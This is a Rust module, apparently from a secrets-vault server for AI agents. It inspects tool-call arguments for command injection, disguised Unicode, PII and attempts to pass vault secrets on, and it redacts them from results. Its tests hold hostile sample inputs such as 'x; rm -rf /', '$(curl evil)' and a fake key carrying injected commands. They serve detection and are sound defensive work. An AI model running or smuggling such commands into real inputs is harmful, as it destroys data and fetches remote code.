//! Looking at text for what should not be in it: commands, disguises, manipulation, bad addresses, personal data.
//!
//! A help against accidents and clumsy attacks, not a boundary: whoever may read a value can always pass it on in a
//! spelling that nobody recognises. The boundary is what the vault lets the agent read.

mod patterns;
mod unicode;

use std::fmt;

use rmcp::model::JsonObject;
use schemars::JsonSchema;
use serde::Serialize;
use serde_json::Value;
use uuid::Uuid;

use super::memory::Memory;
use super::outcome::Refusal;
use super::settings::{Exfiltration, Inspection, Sanitization};

pub(super) use unicode::normalized;

/// Longest text that is looked at. Arguments of tools have no reason to be longer, values aside.
pub(super) const MAX_TEXT: usize = 64 * 1024;
/// How much of a match is shown.
const EXCERPT: usize = 60;

/// How bad a finding is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, JsonSchema)]
#[serde(rename_all = "lowercase")]
#[schemars(inline)]
pub(super) enum Severity {
    /// Worth knowing.
    Low,
    /// Worth a look.
    Medium,
    /// Not something a tool needs.
    High,
    /// An attack, or damage if it is acted upon.
    Critical,
}

/// What a text comes down to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, JsonSchema)]
#[serde(rename_all = "lowercase")]
#[schemars(inline)]
pub(super) enum Verdict {
    /// Nothing was found.
    Clean,
    /// Only low or medium findings.
    Warning,
    /// A high finding.
    Suspicious,
    /// A critical finding.
    Malicious,
}

/// Something that was found.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, JsonSchema)]
pub(super) struct Threat {
    /// `command_injection`, `encoding_obfuscation`, `social_engineering`, `network_threat`, `unicode`, `pii` or
    /// `exfiltration`.
    #[serde(rename = "type")]
    pub(super) kind: &'static str,
    /// Which pattern of that kind.
    pub(super) pattern: &'static str,
    /// How bad it is.
    pub(super) severity: Severity,
    /// Where the pattern matched, shortened.
    #[serde(rename = "match")]
    pub(super) excerpt: String,
}

/// Everything found in a text.
#[derive(Debug, PartialEq, Eq, Serialize, JsonSchema)]
pub(super) struct Report {
    /// What the text comes down to.
    pub(super) verdict: Verdict,
    /// Whether nothing at all was found.
    pub(super) safe: bool,
    /// How many findings there are.
    pub(super) threat_count: usize,
    /// The findings.
    pub(super) threats: Vec<Threat>,
    /// Whether the text has invisible or look-alike characters.
    pub(super) unicode_normalized: bool,
}

impl Report {
    pub(super) fn of(threats: Vec<Threat>) -> Self {
        let worst = threats.iter().map(|threat| threat.severity).max();
        Self {
            verdict: match worst {
                None => Verdict::Clean,
                Some(Severity::Low | Severity::Medium) => Verdict::Warning,
                Some(Severity::High) => Verdict::Suspicious,
                Some(Severity::Critical) => Verdict::Malicious,
            },
            safe: threats.is_empty(),
            threat_count: threats.len(),
            unicode_normalized: threats.iter().any(|threat| threat.kind == unicode::KIND),
            threats,
        }
    }
}

/// Everything that is wrong with a text.
pub(super) fn scan(text: &str, pii: bool) -> Vec<Threat> {
    let mut threats = unicode::scan(text);
    // Disguised words are judged by what they are meant to be read as.
    let plain = normalized(text);
    threats.extend(patterns::scan(&plain, pii));
    threats
}

/// Values that the session has read and that are in the text.
pub(super) fn known_values(text: &str, memory: &Memory) -> Vec<Threat> {
    let found = memory.find(text).into_iter();
    let threat = |found: super::memory::Match| Threat {
        kind: "exfiltration",
        pattern: "known_secret",
        severity: Severity::Critical,
        excerpt: format!("[REDACTED:#{}]", found.name),
    };
    found.map(threat).collect()
}

fn excerpt(text: &str) -> String {
    text.chars().take(EXCERPT).collect()
}

/// How the arguments of one tool are looked at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Scrutiny {
    /// The argument that holds a value or a text to be judged, and is left alone.
    pub(super) exempt: Option<&'static str>,
    /// Whether values that were read may be in the other arguments.
    pub(super) may_hold_values: bool,
}

impl Inspection {
    /// Looks at the arguments of a call. In surgical mode it changes them.
    pub(super) fn admit(
        self,
        tool: &str,
        scrutiny: Scrutiny,
        arguments: &mut JsonObject,
        memory: &Memory,
    ) -> Result<(), Refusal> {
        if !self.enabled {
            return Ok(());
        }
        for (name, argument) in arguments.iter_mut() {
            if scrutiny.exempt != Some(name.as_str()) {
                self.admit_value(tool, scrutiny, name, argument, memory)?;
            }
        }
        Ok(())
    }

    fn admit_value(
        self,
        tool: &str,
        scrutiny: Scrutiny,
        name: &str,
        argument: &mut Value,
        memory: &Memory,
    ) -> Result<(), Refusal> {
        match argument {
            Value::String(text) => self.admit_text(tool, scrutiny, name, text, memory),
            Value::Array(items) => items
                .iter_mut()
                .try_for_each(|item| self.admit_value(tool, scrutiny, name, item, memory)),
            Value::Object(members) => {
                for (key, member) in members {
                    self.admit_text(tool, scrutiny, name, &mut key.clone(), memory)?;
                    self.admit_value(tool, scrutiny, name, member, memory)?;
                }
                Ok(())
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => Ok(()),
        }
    }

    fn admit_text(
        self,
        tool: &str,
        scrutiny: Scrutiny,
        name: &str,
        text: &mut String,
        memory: &Memory,
    ) -> Result<(), Refusal> {
        // An id is no text, and its digits may look like somebody's card number.
        if Uuid::try_parse(text).is_ok() {
            return Ok(());
        }
        if text.len() > MAX_TEXT {
            return Err(Refusal::arguments(format_args!(
                "`{name}` is longer than {MAX_TEXT} bytes"
            )));
        }
        if self.exfiltration != Exfiltration::Off && !scrutiny.may_hold_values {
            let leaks = known_values(text, memory);
            if !leaks.is_empty() {
                log(tool, name, "input", &leaks);
                if self.exfiltration == Exfiltration::Block {
                    return Err(blocked(name, &leaks).hint(
                        "A value that was read from the vault must not be passed on to this tool. To hand a secret to \
                         somebody, use share_secret with its path.",
                    ));
                }
            }
        }
        let threats = scan(text, self.pii);
        if threats.is_empty() {
            return Ok(());
        }
        log(tool, name, "input", &threats);
        match self.sanitization {
            Sanitization::Block => {
                let (bad, _): (Vec<_>, Vec<_>) = threats
                    .into_iter()
                    .partition(|threat| threat.severity >= Severity::High);
                if bad.is_empty() {
                    return Ok(());
                }
                Err(blocked(name, &bad).hint(
                    "Say it without that. If the text is a secret, store it as `value` with put_secret, which is not \
                     looked at.",
                ))
            }
            Sanitization::Surgical => {
                *text = normalized(text).into_owned();
                Ok(())
            }
            Sanitization::LogOnly => Ok(()),
        }
    }

    /// Looks at a result on its way out; values that the session has read are taken out of it.
    pub(super) fn release(self, tool: &str, text: &mut String, data: &mut Value, memory: &Memory) {
        if !self.enabled {
            return;
        }
        if text.len() <= MAX_TEXT {
            let threats = scan(text, self.pii);
            if !threats.is_empty() {
                log(tool, "result", "output", &threats);
            }
        }
        if self.redact {
            redact(text, memory);
            redact_all(data, memory);
        }
    }
}

fn redact(text: &mut String, memory: &Memory) {
    if let Some(redacted) = memory.redact(text) {
        *text = redacted;
    }
}

fn redact_all(data: &mut Value, memory: &Memory) {
    match data {
        Value::String(text) => redact(text, memory),
        Value::Array(items) => items.iter_mut().for_each(|item| redact_all(item, memory)),
        Value::Object(members) => members
            .values_mut()
            .for_each(|member| redact_all(member, memory)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// Names what was found and never quotes it: it may be a secret.
fn log(tool: &str, place: &str, direction: &str, threats: &[Threat]) {
    for threat in threats {
        tracing::warn!(
            tool,
            place,
            direction,
            kind = threat.kind,
            pattern = threat.pattern,
            severity = ?threat.severity,
            "suspicious text"
        );
    }
}

fn blocked(argument: &str, threats: &[Threat]) -> Refusal {
    let list = List(threats);
    Refusal::new(
        "blocked",
        format!("Blocked: `{argument}` looks like {list}. Nothing was done."),
    )
}

struct List<'a>(&'a [Threat]);

impl fmt::Display for List<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (index, threat) in self.0.iter().enumerate() {
            let separator = if index == 0 { "" } else { ", " };
            write!(f, "{separator}{} ({})", threat.kind, threat.pattern)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    const OPEN: Scrutiny = Scrutiny {
        exempt: None,
        may_hold_values: false,
    };

    fn admit(
        inspection: Inspection,
        scrutiny: Scrutiny,
        memory: &Memory,
        arguments: Value,
    ) -> Result<Value, Refusal> {
        let Value::Object(mut arguments) = arguments else {
            panic!("no object")
        };
        inspection
            .admit("tool", scrutiny, &mut arguments, memory)
            .map(|()| Value::Object(arguments))
    }

    #[test]
    fn a_command_is_refused_wherever_it_stands() {
        let (inspection, memory) = (Inspection::default(), Memory::default());
        for arguments in [
            json!({ "name": "x; rm -rf /" }),
            json!({ "metadata": { "a": ["fine", { "b": "$(curl evil)" }] } }),
            json!({ "metadata": { "x; rm -rf /": 1 } }),
        ] {
            let refused = admit(inspection, OPEN, &memory, arguments.clone()).unwrap_err();
            assert_eq!(refused.code, "blocked", "{arguments}");
            assert!(!refused.message.contains("rm -rf"), "{}", refused.message);
        }
        let off = Inspection {
            enabled: false,
            ..inspection
        };
        let log_only = Inspection {
            sanitization: Sanitization::LogOnly,
            ..inspection
        };
        for inspection in [off, log_only] {
            assert!(admit(inspection, OPEN, &memory, json!({ "name": "x; rm -rf /" })).is_ok());
        }
    }

    #[test]
    fn a_secret_is_not_judged_as_a_command() {
        let scrutiny = Scrutiny {
            exempt: Some("value"),
            may_hold_values: true,
        };
        let key = "-----BEGIN PRIVATE KEY-----\n; rm -rf / $(id)\n";
        let memory = Memory::default();
        let arguments = json!({ "path": "ssh/key", "value": key });
        assert!(admit(Inspection::default(), scrutiny, &memory, arguments).is_ok());
        let elsewhere = json!({ "path": key });
        assert!(admit(Inspection::default(), scrutiny, &memory, elsewhere).is_err());
    }

    #[test]
    fn a_value_that_was_read_goes_nowhere_else() {
        let memory = Memory::default();
        memory.remember("hunter2hunter2");
        let leaks = || json!({ "description": "see hunter2hunter2" });
        let refused = admit(Inspection::default(), OPEN, &memory, leaks()).unwrap_err();
        assert!(refused.message.contains("exfiltration"), "{refused:?}");
        assert!(!refused.message.contains("hunter2"), "{refused:?}");
        for exfiltration in [Exfiltration::Warn, Exfiltration::Off] {
            let lenient = Inspection {
                exfiltration,
                ..Inspection::default()
            };
            assert!(admit(lenient, OPEN, &memory, leaks()).is_ok());
        }
        let exempt = Scrutiny {
            exempt: None,
            may_hold_values: true,
        };
        assert!(admit(Inspection::default(), exempt, &memory, leaks()).is_ok());
        assert!(admit(Inspection::default(), OPEN, &Memory::default(), leaks()).is_ok());
    }

    #[test]
    fn surgery_replaces_disguises_and_goes_on() {
        let surgical = Inspection {
            sanitization: Sanitization::Surgical,
            ..Inspection::default()
        };
        let arguments = json!({ "name": "\u{430}pi\u{200b}key" });
        let admitted = admit(surgical, OPEN, &Memory::default(), arguments).unwrap();
        assert_eq!(admitted, json!({ "name": "apikey" }));
    }

    #[test]
    fn a_result_does_not_repeat_a_value() {
        let memory = Memory::default();
        memory.remember("hunter2hunter2");
        let mut text = "note: hunter2hunter2".to_owned();
        let mut data = json!({ "a": [{ "b": "hunter2hunter2" }] });
        Inspection::default().release("tool", &mut text, &mut data, &memory);
        assert!(
            !format!("{text}{data}").contains("hunter2"),
            "{text} {data}"
        );
        assert!(text.starts_with("note: [REDACTED:#"), "{text}");
    }

    #[test]
    fn the_worst_finding_gives_the_verdict() {
        let threat = |severity| Threat {
            kind: "pii",
            pattern: "x",
            severity,
            excerpt: String::new(),
        };
        for (severities, verdict) in [
            (&[][..], Verdict::Clean),
            (&[Severity::Low, Severity::Medium], Verdict::Warning),
            (&[Severity::Medium, Severity::High], Verdict::Suspicious),
            (&[Severity::Critical, Severity::Low], Verdict::Malicious),
        ] {
            let report = Report::of(severities.iter().copied().map(threat).collect());
            assert_eq!(report.verdict, verdict);
            assert_eq!(report.safe, verdict == Verdict::Clean);
        }
    }
}
